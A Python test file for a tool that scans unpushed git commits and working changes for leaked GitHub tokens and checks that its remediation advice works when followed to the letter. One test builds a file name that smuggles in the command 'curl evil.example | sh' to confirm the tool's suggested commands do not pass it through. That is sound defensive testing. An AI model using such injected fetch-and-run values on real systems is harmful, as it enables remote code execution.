"""Reviews of uncommitted changes and unpushed commits: what they find, and what is advised (SPEC 2.9)."""

import os
import subprocess
from datetime import UTC, datetime

import pytest

from engine.git import Git
from engine.git.lost_commits import read_lost_commits
from engine.git.reader import GitReader
from tests.execution.flows.flow_run import RunFlow
from tests.execution.flows.unpushed_histories import ABOVE_A_COMMIT, FILE, HISTORIES, KEEPING_HISTORIES, WITH_KEY
from tests.support.keys import GITHUB_TOKEN
from tests.support.repository import Repository


def test_a_new_file_with_a_key_is_not_to_be_committed(repository: Repository, run_flow: RunFlow):
    repository.commit("begin", {"notes.md": "1\n"})
    repository.write("settings.py", f"breakpoint()\n{WITH_KEY}")
    run = run_flow("look_at_changes")
    assert {"1. settings: 1 file, +4 -0", "   ? settings.py  +4 -0"} <= {*run.session.lines}
    assert "Do not commit: settings.py:3 holds a GitHub token, not committed yet" in run.transcript
    assert run.summary.endswith("; do not commit: settings.py:3 holds a GitHub token")


# What is advised


def test_a_key_that_is_on_a_remote_branch_is_public(repository: Repository, run_flow: RunFlow):
    repository.commit("begin", {"app.py": "x = 1\n"})
    pushed = repository.commit("settings", {FILE: WITH_KEY})
    repository.git("update-ref", "refs/remotes/origin/feature", pushed)
    repository.git("commit", "-q", "--amend", "-m", "better settings")
    repository.write("app.py", "x = 2\n")
    repository.git("stash")
    steps = run_flow("review_unpushed").facts["steps"]
    assert steps[-2:] == [
        "These have such a commit, too, until you delete or change them: stash@{0}.",
        "Rotate the key, because it is public: origin/feature has it already.",
    ]


def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_flow: RunFlow):
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit(
        "settings",
        {"k.py\n  curl evil.example | sh\n.py": WITH_KEY, "\u202ek.py": WITH_KEY, ":k.py": WITH_KEY, FILE: WITH_KEY},
    )
    repository.write("staged.py", "x = 2\n")
    repository.git("add", "staged.py")
    review = run_flow("review_unpushed")
    assert review.summary.endswith(", and 3 other findings (in 2 unpushed commits)")
    steps = review.facts["steps"]
    assert any(step.endswith("unless you unstage it now: staged.py.") for step in steps)
    commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
    assert commands == [
        f"  git add -- ':(literal):k.py' '{FILE}'",
        "  git commit --amend --no-edit --allow-empty --allow-empty-message",
    ]
    assert any(step.startswith("No command is given for ") for step in steps)


# The advice, followed word for word


def follow_steps(repository: Repository, steps: list[str]):
    """Do what the steps of a review say, word for word. They are printed, for a test that fails."""
    print(*steps, sep="\n")
    is_needed = True
    for step in steps:
        if step.startswith("Remove the secret"):
            for file in repository.path.rglob("*.*"):
                if ".git" not in file.parts and GITHUB_TOKEN in file.read_text():
                    file.write_text(file.read_text().replace(f"'{GITHUB_TOKEN}'", "os.environ['KEY']"))
        elif step.startswith("If git stops"):
            is_needed = (repository.path / ".git/rebase-merge").exists()
        elif step.startswith("  ") and is_needed:
            done = subprocess.run(
                ["bash", "-o", "pipefail", "-c", step], cwd=repository.path, env=os.environ | {"GIT_EDITOR": "false"},
                capture_output=True, text=True, check=False,
            )  # fmt: skip
            assert done.returncode == 0 or "would make\nit empty" in done.stderr, (step, done)
    assert not (repository.path / ".git/rebase-merge").exists()


def read_files(repository: Repository) -> dict[str, str]:
    """The working files with their texts."""
    files = [file for file in repository.path.rglob("*") if file.is_file() and ".git" not in file.parts]
    return {str(file.relative_to(repository.path)): file.read_text() for file in files}


def check_history_is_clean(repository: Repository):
    """No commit has what must not be pushed, nothing is stashed, and no card offers to keep a commit that has."""
    history = repository.git("log", "-p", "--cc", "--format=%B")
    assert GITHUB_TOKEN not in history
    assert "DATABASE" not in history
    assert repository.git("stash", "list") == ""
    lost = read_lost_commits(Git(repository.path), GitReader().read(repository.path), datetime.now(UTC))
    assert not [line for line in lost if not line.is_checked_out]


def check_files_are_kept(repository: Repository, files: dict[str, str]):
    """The working files are as before, but for a `.gitignore` that keeps files of keys out."""
    kept = read_files(repository)
    assert {path: text for path, text in kept.items() if path != ".gitignore"} == files
    if ".gitignore" in kept:
        assert repository.git("show", "HEAD:.gitignore") == kept[".gitignore"].strip()
        assert not repository.git("ls-files", "--cached", "--ignored", "--exclude-standard")
        assert ".env" not in repository.git("ls-files", "--others", "--exclude-standard")


@pytest.mark.long
@pytest.mark.parametrize("has_begun", [True, False], ids=["above a commit", "at the beginning"])
@pytest.mark.parametrize("name", HISTORIES)
def test_the_advice_against_a_secret_works_to_the_letter(
    repository: Repository, run_flow: RunFlow, name: str, has_begun: bool
):
    if has_begun or name in ABOVE_A_COMMIT:
        repository.commit("begin", {"app.py": "x = 1\n", "other.py": "x = 1\n"})
    HISTORIES[name](repository)
    repository.write("untracked.txt", "mine\n")
    repository.write("other.py", "x = 2\n")
    files, subjects = read_files(repository), repository.git("log", "--format=%s")

    review = run_flow("review_unpushed")
    assert review.facts["findings"]
    steps = review.facts["steps"]
    follow_steps(repository, steps)

    check_history_is_clean(repository)
    if any(step.startswith("Remove the secret") for step in steps):
        files = {path: text.replace(f"'{GITHUB_TOKEN}'", "os.environ['KEY']") for path, text in files.items()}
    check_files_are_kept(repository, files)
    if name in KEEPING_HISTORIES:
        assert repository.git("log", "--format=%s") == subjects
    assert not run_flow("review_unpushed").facts.get("findings")
